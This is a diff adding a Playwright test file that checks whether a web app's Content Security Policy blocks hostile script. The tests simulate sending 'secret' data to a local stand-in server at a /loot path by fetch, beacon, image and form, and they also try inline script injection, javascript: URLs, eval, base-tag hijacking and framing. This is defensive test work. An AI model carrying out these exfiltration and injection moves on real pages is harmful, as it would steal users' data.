@@ -1,0 +1,124 @@
+/** @file Should a hostile script ever run in the page: it cannot reach out, lead away, or bring more of its kind. */
+
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from '@playwright/test';
+import { expect, test } from './story.ts';
+
+/** Somebody else's server, who counts what reaches them. */
+async function openStranger() {
+  const requests: string[] = [];
+  const server = createServer((request, response) => {
+    requests.push(request.url ?? '');
+    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('got it');
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  // It listens on a port, so this is neither a pipe's name nor null.
+  const { port } = server.address() as AddressInfo;
+  return {
+    requests,
+    address: `http://127.0.0.1:${port}/loot`,
+    [Symbol.asyncDispose]: async () => {
+      server.closeAllConnections();
+      await new Promise((resolve) => server.close(resolve));
+    },
+  };
+}
+
+/** The directives of the policy that an attempt ran into. */
+async function violations(page: Page, attempt: (page: Page) => Promise<unknown>): Promise<string[]> {
+  await page.evaluate(() => {
+    const seen: string[] = [];
+    Object.assign(window, { seen });
+    addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
+  });
+  await attempt(page);
+  // Reported in a task of its own, after the attempt.
+  return await page.evaluate(async () => {
+    const { seen } = window as unknown as { seen: string[] };
+    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+    return seen;
+  });
+}
+
+test.beforeEach(async ({ page }) => {
+  await expect(page.getByRole('heading', { name: 'Welcome to Tranship' })).toBeVisible();
+});
+
+test('nothing is sent to another origin', async ({ page }) => {
+  await using stranger = await openStranger();
+  const seen = await violations(page, () =>
+    page.evaluate(async (address) => {
+      await fetch(address).catch(() => {});
+      navigator.sendBeacon(address, 'secret');
+      await new Promise((resolve) => {
+        const image = new Image();
+        image.onload = image.onerror = resolve;
+        image.src = address;
+      });
+      const form = document.body.appendChild(document.createElement('form'));
+      form.action = address;
+      form.target = '_blank';
+      form.submit();
+    }, stranger.address),
+  );
+  expect(seen).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'form-action']));
+  expect(stranger.requests).toEqual([]);
+});
+
+test('no script comes in by text', async ({ page }) => {
+  const seen = await violations(page, () =>
+    page.evaluate(() => {
+      const inline = document.createElement('script');
+      inline.textContent = 'window.hacked = true';
+      document.body.append(inline);
+      const handler = document.createElement('div');
+      handler.setAttribute('onclick', 'window.hacked = true');
+      document.body.append(handler);
+      handler.click();
+      const styled = document.createElement('style');
+      styled.textContent = 'body { display: none }';
+      document.head.append(styled);
+      const link = document.body.appendChild(document.createElement('a'));
+      link.href = 'javascript:window.hacked = true';
+      link.click();
+    }),
+  );
+  expect(seen).toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'style-src-elem']));
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+  await expect(page.getByRole('heading', { name: 'Welcome to Tranship' })).toBeVisible();
+});
+
+test('text is not run as code', async ({ page }) => {
+  // From a timer of the page itself: what a driver evaluates is exempt from the policy.
+  const outcome = await page.evaluate(
+    () =>
+      new Promise<string>((resolve) => {
+        setTimeout(() => {
+          try {
+            // biome-ignore lint/security/noGlobalEval: that this fails is the point.
+            resolve(`ran: ${globalThis.eval('1 + 1')}`);
+          } catch (thrown) {
+            resolve(String(thrown));
+          }
+        });
+      }),
+  );
+  expect(outcome).toMatch(/EvalError|unsafe-eval|Content Security Policy/);
+});
+
+test('the page is not framed, and gets no base of another origin', async ({ page }) => {
+  await using stranger = await openStranger();
+  const seen = await violations(page, () =>
+    page.evaluate((address) => {
+      const base = document.createElement('base');
+      base.href = address;
+      document.head.append(base);
+      const frame = document.createElement('iframe');
+      frame.src = address;
+      document.body.append(frame);
+    }, stranger.address),
+  );
+  expect(seen).toEqual(expect.arrayContaining(['base-uri', 'frame-src']));
+  expect(stranger.requests).toEqual([]);
+});
